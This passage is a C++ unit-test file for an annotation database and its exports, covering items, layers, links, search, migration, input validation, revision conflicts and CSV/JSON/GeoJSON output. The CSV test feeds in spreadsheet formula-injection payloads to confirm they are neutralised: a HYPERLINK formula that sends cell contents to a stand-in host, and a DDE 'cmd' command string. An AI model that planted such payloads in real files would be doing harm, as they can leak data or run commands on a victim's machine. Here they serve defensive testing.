// The annotation database (annotate/src/annotation_db.cpp, annotation_io.cpp) and
// tessera-annotate: every item kind, layers, both link directions, full-text search, the v1
// migration, refusals of bad files and bad values, the concurrency rule, the exports and the
// import round trip, and durability across kill -9 of a writing process.
#include <tessera/annotate/annotation_db.h>
#include <tessera/annotate/annotation_io.h>

#include <sqlite3.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmath>
#include <fstream>
#include <limits>
#include <regex>
#include <set>
#include <sstream>

#include <gtest/gtest.h>

#include "../../annotate/src/json.h"
#include "../../fuzz/annotation_fuzz.h"
#include "../support/process.h"
#include "../support/temp_dir.h"
#include "annotation_test_support.h"

namespace {

using namespace tessera::annotate;
using tessera::test::Process;
using tessera::test::runTool;
using tessera::test::slurp;
using tessera::test::TempDir;
using tessera::test::textItem;
using Kind = AnnotationError::Kind;

/// Runs `body`, expecting AnnotationError of `kind` whose message contains `needle`.
template <typename F>
void expectError(Kind kind, const std::string& needle, F&& body) {
  try {
    body();
    ADD_FAILURE() << "no AnnotationError (expected one containing \"" << needle << "\")";
  } catch (const AnnotationError& e) {
    EXPECT_EQ(int(e.kind()), int(kind)) << e.what();
    EXPECT_NE(std::string(e.what()).find(needle), std::string::npos) << e.what();
  }
}

Place hotSpot(const std::string& model, glm::dvec3 at, double radius) {
  Place p;
  p.kind = PlaceKind::kHotSpot;
  p.model = model;
  p.position = at;
  p.radius = radius;
  p.view = StoredView{at + glm::dvec3(0.0, -2.0, 1.0), at, {0.0, 0.0, 1.0}, 40.0};
  return p;
}

Place pointPlace(const std::string& model, glm::dvec3 at) {
  Place p;
  p.kind = PlaceKind::kPoint;
  p.model = model;
  p.position = at;
  return p;
}

/// Runs SQL on a file with the bare C API (writing the files older or foreign programs wrote).
void rawSql(const std::filesystem::path& file, const std::string& sql) {
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open(file.c_str(), &db), SQLITE_OK);
  char* error = nullptr;
  const int rc = sqlite3_exec(db, sql.c_str(), nullptr, nullptr, &error);
  EXPECT_EQ(rc, SQLITE_OK) << (error ? error : "");
  sqlite3_free(error);
  sqlite3_close(db);
}

/// A database with one of everything: all item kinds, a forward link, every place kind.
void populate(AnnotationDb& db) {
  const int64_t crack = db.addItem(textItem("survey/2024/north", "Crack, diagonal",
                                            "Runs 14 cm from the window's \"left\" corner\n"),
                                   "site-kyoto");
  Item length;
  length.layer = "survey/2024/north";
  length.kind = ItemKind::kNumber;
  length.title = "crack length";
  length.number = 0.1400000000000001;
  length.unit = "m";
  db.addItem(length, "site-kyoto");
  Item photo;
  photo.layer = "history";
  photo.kind = ItemKind::kImage;
  photo.title = "1962 photo";
  photo.mime = "image/jpeg";
  photo.path = "/archive/1962/scan 7.jpg";
  db.addItem(photo, "wall");
  Item embedded = photo;
  embedded.path.clear();
  embedded.title = "thumbnail";
  embedded.data = {0x89, 'P', 'N', 'G', 0, 1, 2, 0xff, 0};
  embedded.mime = "image/png";
  db.addItem(embedded, "wall");
  Item uri;
  uri.layer = "history";
  uri.kind = ItemKind::kLink;
  uri.title = "Edo restoration report";
  uri.link_uri = "https://example.org/edo?x=1&y=é";
  db.addItem(uri, "wall");
  Item back;
  back.layer = "history";
  back.kind = ItemKind::kLink;
  back.title = "see the crack";
  back.link_item = crack;
  const int64_t back_id = db.addItem(back, "wall");
  // A link forwards, to a later item: item `crack` becomes a link to `back_id` (a cycle).
  Item crack_link = *db.item(crack);
  crack_link.kind = ItemKind::kLink;
  crack_link.link_item = back_id;
  db.updateItem(crack_link, 1, "site-kyoto");

  const int64_t spot = db.addPlace(hotSpot("temple", {1.25, -3.5, 0.1}, 0.5));
  const int64_t point = db.addPlace(pointPlace("temple", {123456.789012345678, 1e-9, -0.5}));
  Place sel;
  sel.kind = PlaceKind::kSelection;
  sel.model = "temple";
  sel.selection_id = "lasso-7";
  sel.selection = {1, 0, 0, 0, 200, 1, 0, 0};
  const int64_t region = db.addPlace(sel);
  db.attach(crack, spot);
  db.attach(back_id, spot);
  db.attach(2, point);
  db.attach(4, region);
  db.addLayer("empty/leaf");
  db.setLayerVisible("history", false);
}

TEST(AnnotationDb, RoundTripsEveryItemKind) {
  TempDir dir;
  AnnotationDb db(dir / "a.tadb");
  EXPECT_EQ(db.schemaVersion(), kSchemaVersion);
  // Durability settings: WAL, every commit synced (2 = FULL), foreign keys enforced.
  for (const auto& [pragma, value] : {std::pair<const char*, const char*>{"journal_mode", "wal"},
                                      {"synchronous", "2"},
                                      {"foreign_keys", "1"}}) {
    sqlite3_stmt* s = nullptr;
    ASSERT_EQ(
        sqlite3_prepare_v2(db.handle(), (std::string("PRAGMA ") + pragma).c_str(), -1, &s, nullptr),
        SQLITE_OK);
    ASSERT_EQ(sqlite3_step(s), SQLITE_ROW);
    EXPECT_STREQ(reinterpret_cast<const char*>(sqlite3_column_text(s, 0)), value) << pragma;
    sqlite3_finalize(s);
  }

  std::vector<Item> in;
  in.push_back(textItem("notes", "Text", "multi\nline, \"quoted\" ünïcode"));
  Item n;
  n.layer = "measure";
  n.kind = ItemKind::kNumber;
  n.title = "area";
  n.number = 0.30000000000000004;
  n.unit = "m^2";
  in.push_back(n);
  Item img;
  img.layer = "photos";
  img.kind = ItemKind::kImage;
  img.title = "by path";
  img.mime = "image/png";
  img.path = "photos/a.png";
  in.push_back(img);
  img.title = "embedded";
  img.path.clear();
  img.data = {0, 1, 2, 0, 255};
  in.push_back(img);
  Item link;
  link.layer = "docs";
  link.kind = ItemKind::kLink;
  link.title = "to a document";
  link.link_uri = "file:///docs/report.pdf";
  in.push_back(link);

  std::vector<int64_t> ids;
  for (const Item& it : in) ids.push_back(db.addItem(it, "site-a"));
  Item to_item = link;
  to_item.link_uri.clear();
  to_item.link_item = ids[0];
  to_item.title = "to an item";
  in.push_back(to_item);
  ids.push_back(db.addItem(to_item, "site-b"));

  for (size_t i = 0; i < in.size(); ++i) {
    const std::optional<Item> out = db.item(ids[i]);
    ASSERT_TRUE(out);
    Item expected = in[i];
    expected.id = ids[i];
    expected.author = i + 1 == in.size() ? "site-b" : "site-a";
    expected.created_us = expected.modified_us = out->created_us;
    expected.revision = 1;
    EXPECT_EQ(*out, expected) << "item " << i;
    EXPECT_GT(out->created_us, 1'600'000'000'000'000);  // microseconds since 1970, after 2020
  }
  EXPECT_FALSE(db.item(999));
  EXPECT_EQ(db.items().size(), in.size());
}

TEST(AnnotationDb, LayersAreHierarchical) {
  TempDir dir;
  AnnotationDb db(dir / "a.tadb");
  db.addItem(textItem("a/b/c", "deep"), "x");
  db.addItem(textItem("a/b", "mid"), "x");
  db.addItem(textItem("a/bc", "sibling with a common prefix"), "x");
  db.addItem(textItem("z", "other"), "x");
  std::vector<std::string> paths;
  for (const Layer& l : db.layers()) paths.push_back(l.path);
  EXPECT_EQ(paths, (std::vector<std::string>{"a", "a/b", "a/b/c", "a/bc", "z"}));

  EXPECT_EQ(db.items("a/b").size(), 2u);  // a/b and a/b/c, not a/bc
  EXPECT_EQ(db.items("a").size(), 3u);
  EXPECT_EQ(db.items("").size(), 4u);

  EXPECT_TRUE(db.layerShown("a/b/c"));
  db.setLayerVisible("a/b", false);
  EXPECT_FALSE(db.layerShown("a/b/c"));  // hidden with its parent
  EXPECT_FALSE(db.layerShown("a/b"));
  EXPECT_TRUE(db.layerShown("a/bc"));
  EXPECT_TRUE(db.layerShown("a"));
  db.setLayerVisible("a/b", true);
  EXPECT_TRUE(db.layerShown("a/b/c"));

  expectError(Kind::kNotFound, "no layer \"q\"", [&] { db.setLayerVisible("q", false); });
  for (const char* bad : {"", "/a", "a/", "a//b", "tab\there"})
    expectError(Kind::kBadInput, "layer", [&] { db.addLayer(bad); });
  expectError(Kind::kBadInput, "more than 16 levels",
              [&] { db.addLayer("1/2/3/4/5/6/7/8/9/10/11/12/13/14/15/16/17"); });
  expectError(Kind::kBadInput, "longer than", [&] { db.addLayer(std::string(300, 'x')); });
}

TEST(AnnotationDb, LinksAreQueryableBothWays) {
  TempDir dir;
  AnnotationDb db(dir / "a.tadb");
  const int64_t a = db.addItem(textItem("l", "first"), "s");
  const int64_t b = db.addItem(textItem("l", "second"), "s");
  const Place spot_in = hotSpot("bunny", {0.1, 0.2, 0.3}, 0.05);
  const int64_t spot = db.addPlace(spot_in);
  const int64_t far = db.addPlace(pointPlace("bunny", {5.0, 0.2, 0.3}));
  const int64_t other_model = db.addPlace(pointPlace("dragon", {0.1, 0.2, 0.3}));
  db.attach(a, spot);
  db.attach(b, spot);
  db.attach(b, far);
  db.attach(b, far);  // idempotent

  // Model -> information: a hot spot opens its items (Bettio et al. 3.4).
  EXPECT_EQ(db.itemsAt(spot), (std::vector<int64_t>{a, b}));
  // Information -> model: the places of an item, each with the view to fly to.
  EXPECT_EQ(db.placesOf(b), (std::vector<int64_t>{spot, far}));
  Place expected = spot_in;
  expected.id = spot;
  EXPECT_EQ(*db.place(spot), expected);
  EXPECT_EQ(db.place(spot)->view->fovy_deg, 40.0);

  // Only the places near the cursor, nearest first, of that model only.
  EXPECT_EQ(db.placesNear("bunny", {0.1, 0.2, 0.35}, 1.0), (std::vector<int64_t>{spot}));
  EXPECT_EQ(db.placesNear("bunny", {4.0, 0.2, 0.3}, 10.0), (std::vector<int64_t>{far, spot}));
  EXPECT_EQ(db.placesNear("dragon", {0.1, 0.2, 0.3}, 0.0), (std::vector<int64_t>{other_model}));

  // An item link read backwards.
  Item link;
  link.layer = "l";
  link.kind = ItemKind::kLink;
  link.title = "see first";
  link.link_item = a;
  const int64_t l = db.addItem(link, "s");
  EXPECT_EQ(db.linksTo(a), (std::vector<int64_t>{l}));
  EXPECT_TRUE(db.linksTo(b).empty());

  db.detach(b, far);
  EXPECT_EQ(db.placesOf(b), (std::vector<int64_t>{spot}));
  // An item others link to stays until the links go (no dangling link in any export).
  expectError(Kind::kBadInput, "linked from items " + std::to_string(l),
              [&] { db.removeItem(a, 1); });
  db.removeItem(l, 1);
  // Removing an item takes its attachments with it.
  db.removeItem(a, 1);
  EXPECT_EQ(db.itemsAt(spot), (std::vector<int64_t>{b}));
  expectError(Kind::kNotFound, "no item", [&] { db.attach(a, spot); });
  expectError(Kind::kNotFound, "no place", [&] { db.attach(b, 999); });
}

TEST(AnnotationDb, FullTextSearch) {
  TempDir dir;
  AnnotationDb db(dir / "a.tadb");
  const int64_t in_title = db.addItem(textItem("survey", "Crack in the plaster"), "s");
  const int64_t in_text = db.addItem(
      textItem("survey", "Wall note",
               "There is a long sentence here about many things and then a crack appears "
               "somewhere among the other words of the note"),
      "s");
  const int64_t phrase =
      db.addItem(textItem("history", "Edo restoration", "paint loss 0.3 m2"), "s");
  const int64_t accent = db.addItem(textItem("history", "Fresque abîmée", "église"), "s");
  const int64_t by_layer = db.addItem(textItem("conservation/cracks", "Untitled"), "s");
  for (int i = 0; i < 20; ++i) db.addItem(textItem("filler", "Other " + std::to_string(i)), "s");

  // Ranking: the title weighs more than the text.
  const auto hits = db.search("crack");
  ASSERT_EQ(hits.size(), 2u);
  EXPECT_EQ(hits[0].item, in_title);
  EXPECT_EQ(hits[1].item, in_text);
  EXPECT_LT(hits[0].score, hits[1].score);
  EXPECT_NE(hits[0].snippet.find("[Crack]"), std::string::npos) << hits[0].snippet;

  // Prefix (matches "crack" and the layer "cracks"), phrase, column filter, boolean.
  std::set<int64_t> prefix;
  for (const auto& h : db.search("crac*")) prefix.insert(h.item);
  EXPECT_EQ(prefix, (std::set<int64_t>{in_title, in_text, by_layer}));
  ASSERT_EQ(db.search("\"paint loss\"").size(), 1u);
  EXPECT_EQ(db.search("\"paint loss\"")[0].item, phrase);
  EXPECT_TRUE(db.search("\"loss paint\"").empty());
  ASSERT_EQ(db.search("layer: cracks").size(), 1u);
  EXPECT_EQ(db.search("title: crack").size(), 1u);
  EXPECT_EQ(db.search("crack NOT plaster").size(), 1u);
  EXPECT_EQ(db.search("edo OR fresque").size(), 2u);
  // Diacritics folded: "eglise" finds "église".
  ASSERT_EQ(db.search("eglise").size(), 1u);
  EXPECT_EQ(db.search("eglise")[0].item, accent);
  EXPECT_EQ(db.search("other", 5).size(), 5u);

  // The index follows updates and removals (triggers on the external content).
  Item renamed = *db.item(in_title);
  renamed.title = "Fissure in the plaster";
  db.updateItem(renamed, 1, "s");
  EXPECT_EQ(db.search("crack").size(), 1u);
  EXPECT_EQ(db.search("fissure").size(), 1u);
  db.removeItem(in_text, 1);
  EXPECT_TRUE(db.search("crack").empty());

  // Malformed queries are refused with a reason, never a crash.
  for (const char* bad :
       {"\"unterminated", "crack AND", "(crack", "nosuchcolumn: x", "*", "AND", "crack NEAR(", ")"})
    expectError(Kind::kBadQuery, "search", [&] { db.search(bad); });
  expectError(Kind::kBadQuery, "1 to 4096", [&] { db.search(""); });
  expectError(Kind::kBadQuery, "1 to 4096", [&] { db.search(std::string(5000, 'a')); });
  EXPECT_EQ(db.search("fissure").size(), 1u);  // still usable afterwards
}

TEST(AnnotationDb, MigratesAVersion1File) {
  TempDir dir;
  const auto file = dir / "old.tadb";
  rawSql(file, kSchemaV1Sql);
  rawSql(file,
         "INSERT INTO notes(id, layer, title, body, model, x, y, z, author, created) VALUES "
         "(3, 'survey/north', 'Old crack', 'seen in 2019', 'temple', 1.5, 2.5, -3.25, 'ana', "
         "1560000000),"
         "(7, '', 'No layer, no point', '', NULL, NULL, NULL, NULL, '', 1560000001),"
         "(9, '/odd//path/', 'Odd layer', 'x', 'temple', 0, 0, 0, 'bo', 1560000002)");

  {
    AnnotationDb db(file);
    EXPECT_EQ(db.schemaVersion(), kSchemaVersion);
    const auto items = db.items();
    ASSERT_EQ(items.size(), 3u);
    EXPECT_EQ(items[0].id, 3);
    EXPECT_EQ(items[0].layer, "survey/north");
    EXPECT_EQ(items[0].title, "Old crack");
    EXPECT_EQ(items[0].text, "seen in 2019");
    EXPECT_EQ(items[0].author, "ana");
    EXPECT_EQ(items[0].created_us, 1560000000LL * 1000000);
    EXPECT_EQ(items[0].revision, 1);
    EXPECT_EQ(items[1].layer, "unfiled");
    EXPECT_EQ(items[1].author, "unknown");
    EXPECT_TRUE(db.placesOf(7).empty());
    EXPECT_EQ(items[2].layer, "odd/path");
    const auto places = db.placesOf(3);
    ASSERT_EQ(places.size(), 1u);
    EXPECT_EQ(db.place(places[0])->position, glm::dvec3(1.5, 2.5, -3.25));
    EXPECT_EQ(db.place(places[0])->model, "temple");
    // The migrated text is in the full-text index.
    ASSERT_EQ(db.search("2019").size(), 1u);
    EXPECT_EQ(db.search("2019")[0].item, 3);
    // New ids come after the migrated ones.
    EXPECT_GT(db.addItem(textItem("new", "after migration"), "x"), 9);
    EXPECT_EQ(db.integrityCheck(), "ok");
  }
  AnnotationDb again(file);  // opening a migrated file changes nothing
  EXPECT_EQ(again.items().size(), 4u);
}

TEST(AnnotationDb, RefusesBadFiles) {
  TempDir dir;
  // A newer schema.
  const auto newer = dir / "newer.tadb";
  { AnnotationDb db(newer); }
  rawSql(newer, "PRAGMA user_version = " + std::to_string(kSchemaVersion + 1));
  expectError(Kind::kNewerSchema,
              "newer.tadb: has schema version " + std::to_string(kSchemaVersion + 1),
              [&] { AnnotationDb db(newer); });

  // Not a database at all.
  const auto text = dir / "notes.txt";
  tessera::test::writeText(text, std::string(4096, 'x') + "this is not SQLite\n");
  expectError(Kind::kNotADatabase, "notes.txt", [&] { AnnotationDb db(text); });

  // An SQLite database of some other program.
  const auto foreign = dir / "foreign.db";
  rawSql(foreign, "CREATE TABLE t(x)");
  expectError(Kind::kNotADatabase, "not an annotation database", [&] { AnnotationDb db(foreign); });

  // A folder, a file under a file, a missing file read-only.
  expectError(Kind::kCannotOpen, "is a folder", [&] { AnnotationDb db(dir.path()); });
  expectError(Kind::kCannotOpen, "notes.txt/x.tadb", [&] { AnnotationDb db(text / "x.tadb"); });
  expectError(Kind::kCannotOpen, "does not exist",
              [&] { AnnotationDb db(dir / "missing.tadb", {.read_only = true}); });

  // A corrupt file: a good database whose pages after the first are overwritten.
  const auto corrupt = dir / "corrupt.tadb";
  {
    AnnotationDb db(corrupt);
    for (int i = 0; i < 200; ++i)
      db.addItem(textItem("l", "item " + std::to_string(i), std::string(500, 'a' + i % 26)), "s");
  }
  {
    std::fstream f(corrupt, std::ios::in | std::ios::out | std::ios::binary);
    f.seekp(4096);
    const std::string junk(size_t(std::filesystem::file_size(corrupt) - 4096), '\x5a');
    f.write(junk.data(), std::streamsize(junk.size()));
  }
  try {
    AnnotationDb db(corrupt);
    db.items();
    ADD_FAILURE() << "a corrupt file read without an error";
  } catch (const AnnotationError& e) {
    EXPECT_TRUE(e.kind() == Kind::kCorrupt || e.kind() == Kind::kNotADatabase) << e.what();
    EXPECT_NE(std::string(e.what()).find("corrupt.tadb"), std::string::npos) << e.what();
  }

  // Read-only: a database opened read-only refuses writes.
  const auto good = dir / "good.tadb";
  {
    AnnotationDb db(good);
    db.addItem(textItem("l", "t"), "s");
  }
  {
    AnnotationDb ro(good, {.read_only = true});
    EXPECT_EQ(ro.items().size(), 1u);
    expectError(Kind::kReadOnly, "good.tadb", [&] { ro.addItem(textItem("l", "u"), "s"); });
  }
  // A read-only folder (root ignores permissions, so only as another user).
  if (geteuid() != 0) {
    const auto locked = dir / "locked";
    std::filesystem::create_directory(locked);
    chmod(locked.c_str(), 0555);
    expectError(Kind::kCannotOpen, "locked/new.tadb",
                [&] { AnnotationDb db(locked / "new.tadb"); });
    chmod(locked.c_str(), 0755);
  }
}

TEST(AnnotationDb, RefusesBadValues) {
  TempDir dir;
  AnnotationDb db(dir / "a.tadb");
  const double nan = std::numeric_limits<double>::quiet_NaN();
  const double inf = std::numeric_limits<double>::infinity();
  for (glm::dvec3 bad : {glm::dvec3(nan, 0, 0), glm::dvec3(0, inf, 0), glm::dvec3(0, 0, -inf)})
    expectError(Kind::kBadInput, "not finite", [&] { db.addPlace(pointPlace("m", bad)); });
  expectError(Kind::kBadInput, "beyond", [&] { db.addPlace(pointPlace("m", {1e13, 0, 0})); });
  Place spot = hotSpot("m", {0, 0, 0}, 1.0);
  spot.view->eye.x = nan;
  expectError(Kind::kBadInput, "view", [&] { db.addPlace(spot); });
  spot = hotSpot("m", {0, 0, 0}, 1.0);
  spot.view.reset();
  expectError(Kind::kBadInput, "stored view", [&] { db.addPlace(spot); });
  spot = hotSpot("m", {0, 0, 0}, nan);
  expectError(Kind::kBadInput, "radius", [&] { db.addPlace(spot); });
  spot = hotSpot("m", {0, 0, 0}, 1.0);
  spot.view->up = spot.view->target - spot.view->eye;
  expectError(Kind::kBadInput, "along the view", [&] { db.addPlace(spot); });
  expectError(Kind::kBadInput, "finite", [&] { db.placesNear("m", {nan, 0, 0}, 1.0); });

  Item n;
  n.layer = "l";
  n.kind = ItemKind::kNumber;
  n.title = "n";
  n.number = nan;
  expectError(Kind::kBadInput, "not finite", [&] { db.addItem(n, "s"); });
  expectError(Kind::kBadInput, "title is longer",
              [&] { db.addItem(textItem("l", std::string(kMaxTitleBytes + 1, 't')), "s"); });
  expectError(Kind::kBadInput, "text is longer",
              [&] { db.addItem(textItem("l", "t", std::string(kMaxTextBytes + 1, 'x')), "s"); });
  expectError(Kind::kBadInput, "UTF-8", [&] { db.addItem(textItem("l", "bad \xff\xfe"), "s"); });
  expectError(Kind::kBadInput, "title is empty", [&] { db.addItem(textItem("l", ""), "s"); });
  Item img;
  img.layer = "l";
  img.kind = ItemKind::kImage;
  img.title = "i";
  img.mime = "image/png";
  expectError(Kind::kBadInput, "either a path or data", [&] { db.addItem(img, "s"); });
  img.path = "a.png";
  img.mime = "text/html";
  expectError(Kind::kBadInput, "is not image/", [&] { db.addItem(img, "s"); });
  Item link;
  link.layer = "l";
  link.kind = ItemKind::kLink;
  link.title = "k";
  link.link_uri = "no scheme here";
  expectError(Kind::kBadInput, "no scheme", [&] { db.addItem(link, "s"); });
  link.link_uri.clear();
  link.link_item = 42;
  expectError(Kind::kNotFound, "item 42", [&] { db.addItem(link, "s"); });
  Item mixed = textItem("l", "mixed");
  mixed.unit = "m";
  expectError(Kind::kBadInput, "number items only", [&] { db.addItem(mixed, "s"); });
  EXPECT_TRUE(db.items().empty());  // nothing half-written
  EXPECT_TRUE(db.places().empty());
}

// Two sites edit one item through the master, which applies edits in its one order. The rule
// (annotation_db.h): an edit based on a stale revision is refused and changes nothing.
TEST(AnnotationDb, ConcurrentEditsResolveDeterministically) {
  TempDir dir;
  const auto file = dir / "a.tadb";
  AnnotationDb first(file);
  AnnotationDb second(file);  // another connection, as a second process would have
  const int64_t id = first.addItem(textItem("l", "original"), "wall");

  Item from_a = *first.item(id);
  Item from_b = *second.item(id);
  ASSERT_EQ(from_a.revision, 1);
  ASSERT_EQ(from_b.revision, 1);
  from_a.title = "edited by A";
  from_b.title = "edited by B";

  EXPECT_EQ(first.updateItem(from_a, from_a.revision, "site-a"), 2);
  expectError(Kind::kConflict, "based on revision 1 but the item is at revision 2 (by site-a)",
              [&] { second.updateItem(from_b, from_b.revision, "site-b"); });
  const Item now = *second.item(id);
  EXPECT_EQ(now.title, "edited by A");
  EXPECT_EQ(now.author, "site-a");
  EXPECT_EQ(now.revision, 2);
  EXPECT_GE(now.modified_us, now.created_us);

  // B re-reads and edits again: applied.
  from_b = now;
  from_b.title = "edited by B after A";
  EXPECT_EQ(second.updateItem(from_b, now.revision, "site-b"), 3);
  EXPECT_EQ(first.item(id)->title, "edited by B after A");

  // A stale removal is refused too; a current one goes through.
  expectError(Kind::kConflict, "revision 3", [&] { first.removeItem(id, 2); });
  first.removeItem(id, 3);
  EXPECT_FALSE(second.item(id));
  expectError(Kind::kNotFound, "no item", [&] { second.updateItem(from_b, 3, "site-b"); });
}

TEST(AnnotationDb, BatchesCommitOrRollBackTogether) {
  TempDir dir;
  AnnotationDb db(dir / "a.tadb");
  EXPECT_THROW(db.transaction([&] {
    db.addItem(textItem("l", "kept?"), "s");
    db.addItem(textItem("l", ""), "s");  // refused: the whole batch goes
  }),
               AnnotationError);
  EXPECT_TRUE(db.items().empty());
  db.transaction([&] {
    for (int i = 0; i < 10; ++i) db.addItem(textItem("l", "b" + std::to_string(i)), "s");
  });
  EXPECT_EQ(db.items().size(), 10u);
}

TEST(AnnotationExport, JsonRoundTripIsExact) {
  TempDir dir;
  AnnotationDb db(dir / "a.tadb");
  populate(db);
  db.setGeoreference("EPSG:32654", {500000.125, 3950000.5, 12.0});
  std::ostringstream first;
  exportJson(db, first);

  // The export parses as JSON and holds what was put in.
  const auto doc = json::parse(first.str());
  ASSERT_EQ(doc.type, json::Value::Type::kObject);
  EXPECT_EQ(doc.find("items")->array.size(), 6u);
  EXPECT_EQ(doc.find("places")->array.size(), 3u);
  EXPECT_EQ(doc.find("attachments")->array.size(), 4u);
  EXPECT_EQ(doc.find("layers")->array.size(), 6u);  // with the ancestors
  EXPECT_EQ(doc.find("georeference")->find("crs")->text, "EPSG:32654");

  // Into an empty database: the same bytes back, ids and all.
  AnnotationDb copy(dir / "b.tadb");
  const ImportCounts n = importJson(copy, first.str(), "first.json");
  EXPECT_EQ(n.items, 6u);
  EXPECT_EQ(n.places, 3u);
  EXPECT_EQ(n.attachments, 4u);
  std::ostringstream second;
  exportJson(copy, second);
  EXPECT_EQ(first.str(), second.str());
  EXPECT_EQ(copy.item(4)->data, (std::vector<uint8_t>{0x89, 'P', 'N', 'G', 0, 1, 2, 0xff, 0}));
  EXPECT_EQ(copy.place(2)->position.x, 123456.789012345678);
  EXPECT_EQ(copy.place(2)->position.y, 1e-9);
  EXPECT_FALSE(copy.layerShown("history"));

  // Into a database that has items: new ids after the old ones, links and attachments follow.
  AnnotationDb busy(dir / "c.tadb");
  busy.addItem(textItem("mine", "already here"), "s");
  busy.addPlace(pointPlace("m", {0, 0, 0}));
  importJson(busy, first.str(), "first.json");
  EXPECT_EQ(busy.items().size(), 7u);
  const Item crack = *busy.item(2);  // was item 1
  EXPECT_EQ(crack.title, "Crack, diagonal");
  EXPECT_EQ(crack.link_item, 7);  // was 6
  EXPECT_EQ(busy.item(7)->link_item, 2);
  EXPECT_EQ(busy.itemsAt(2), (std::vector<int64_t>{2, 7}));  // hot spot, was place 1
  EXPECT_EQ(busy.integrityCheck(), "ok");
}

TEST(AnnotationExport, ImportRefusesMalformedFilesWhole) {
  TempDir dir;
  AnnotationDb src(dir / "a.tadb");
  populate(src);
  std::ostringstream good_stream;
  exportJson(src, good_stream);
  const std::string good = good_stream.str();

  AnnotationDb db(dir / "b.tadb");
  auto expectRefused = [&](const std::string& text, const std::string& needle) {
    expectError(Kind::kBadInput, needle, [&] { importJson(db, text, "in.json"); });
    EXPECT_TRUE(db.items().empty()) << "a refused import wrote items";
  };
  auto replaced = [&](const std::string& from, const std::string& to) {
    std::string s = good;
    const size_t at = s.find(from);
    EXPECT_NE(at, std::string::npos) << from;
    return s.replace(at, from.size(), to);
  };
  expectRefused("", "in.json: not JSON: byte 0");
  expectRefused("{\"format\": ", "not JSON");
  expectRefused(good.substr(0, good.size() / 2), "not JSON");
  expectRefused(std::string(100, '[') + std::string(100, ']'), "nested deeper");
  expectRefused(replaced("\"version\": 2", "\"version\": 9"), "$.version");
  expectRefused(replaced("\"format\": \"tessera-annotations\"", "\"format\": \"x\""), "$.format");
  expectRefused(replaced("\"position\": [1.25", "\"position\": [1e999"),
                "$.places[0].position[0]: expected a finite number");
  expectRefused(replaced("\"position\": [1.25, -3.5, 0.1]", "\"position\": [1.25, -3.5]"),
                "$.places[0].position: expected [x, y, z]");
  expectRefused(replaced("\"revision\": 2", "\"revision\": \"2\""),
                "$.items[0].revision: expected a number, found a string");
  expectRefused(replaced("\"title\": \"crack length\"", "\"titel\": \"crack length\""),
                "$.items[1].title: missing");
  expectRefused(replaced("\"kind\": \"number\"", "\"kind\": \"number\", \"extra\": 1"),
                "$.items[1].extra: unknown field");
  expectRefused(replaced("\"link_item\": 6", "\"link_item\": 77"),
                "$.items[0].link_item: links to item 77, not in the file");
  expectRefused(replaced("[1, 1]", "[1, 99]"), "$.attachments[0][1]: no place 99");
  expectRefused(replaced("\"link_item\": 6", "\"link_item\": 1"),
                "$.items[0].link_item: an item cannot link to itself");
  expectRefused(replaced("\"selection\": \"AQAAAMgBAAA=\"", "\"selection\": \"AQ$\""),
                "canonical base64");
  expectRefused(replaced("\"radius\": 0.5", "\"radius\": -0.5"), "$.places[0]: ");
  expectRefused(replaced("\"path\": \"history\"", "\"path\": \"a//b\""), "$.layers[");
  expectRefused(replaced("\"id\": 2, \"layer\"", "\"id\": 1, \"layer\""), "appears twice");
  expectRefused(replaced("\"title\": \"crack length\"", "\"title\": \"bad \\ud800 surrogate\""),
                "surrogate");
  expectRefused(replaced("\"mime\": \"image/png\"", "\"mime\": \"text/plain\""), "$.items[3]: ");
  EXPECT_TRUE(db.layers().empty());
  EXPECT_TRUE(db.places().empty());
  importJson(db, good, "in.json");  // and the good file still imports
  EXPECT_EQ(db.items().size(), 6u);
}

TEST(AnnotationExport, CsvAndGeoJson) {
  TempDir dir;
  AnnotationDb db(dir / "a.tadb");
  populate(db);

  std::ostringstream csv;
  exportCsv(db, csv);
  std::vector<std::string> lines;
  std::stringstream in(csv.str());
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  // The header, then one record per item; item 1's text holds a line break inside quotes, so
  // it spans two physical lines.
  EXPECT_EQ(lines[0].rfind("id,layer,kind,title,text,number,unit", 0), 0u);
  EXPECT_NE(csv.str().find("\"Crack, diagonal\",\"Runs 14 cm from the window's \"\"left\"\" "
                           "corner\n\""),
            std::string::npos)
      << csv.str();
  EXPECT_NE(csv.str().find("2,survey/2024/north,number,crack length,,0.1400000000000001,m,"),
            std::string::npos);
  EXPECT_NE(csv.str().find(",9,,,wall,"), std::string::npos) << "embedded image size";
  EXPECT_NE(csv.str().find(",123456.78901234567,1e-09,-0.5\r\n"), std::string::npos) << csv.str();
  std::ostringstream history;
  exportCsv(db, history, "history");
  const std::string history_text = history.str();
  EXPECT_EQ(std::count(history_text.begin(), history_text.end(), '\n'), 5);  // header + 4

  // Text a participant typed that a spreadsheet would run as a formula is written inert: an
  // apostrophe before it, quoted; a number's own column stays as it is (-3.5).
  Item trap;
  trap.layer = "traps";
  trap.kind = ItemKind::kNumber;
  trap.number = -3.5;
  trap.title = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")";
  trap.text = "+1+cmd|' /C calc'!A0";
  trap.unit = "@SUM(1+1)";
  db.addItem(trap, "-site");
  std::ostringstream traps;
  exportCsv(db, traps, "traps");
  const std::string t = traps.str();
  EXPECT_NE(t.find(",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"open\"\")\","),
            std::string::npos)
      << t;
  EXPECT_NE(t.find(",\"'+1+cmd|' /C calc'!A0\","), std::string::npos) << t;
  EXPECT_NE(t.find(",-3.5,\"'@SUM(1+1)\","), std::string::npos) << t;
  EXPECT_NE(t.find(",\"'-site\","), std::string::npos) << t;
  for (const char* raw : {",=HYPERLINK", ",+1+cmd", ",@SUM", ",-site"})
    EXPECT_EQ(t.find(raw), std::string::npos) << raw << " left live in\n" << t;

  // GeoJSON needs a georeference, and a projected one.
  std::ostringstream geo;
  expectError(Kind::kBadInput, "not georeferenced", [&] { exportGeoJson(db, geo); });
  expectError(Kind::kBadInput, "geographic", [&] {
    exportGeoJson(db, geo, Georeference{"EPSG:4326", {0, 0, 0}});
  });
  // The hot spot is at (1.25, -3.5, 0.1) in the local frame: on UTM zone 54's central meridian
  // (easting 500000), where longitude is 141 degrees exactly and the northing is k0 times the
  // meridian's arc from the equator.
  db.setGeoreference("EPSG:32654", {500000.0 - 1.25, 3950000.0 + 3.5, 10.0});
  exportGeoJson(db, geo);
  const auto doc = json::parse(geo.str());
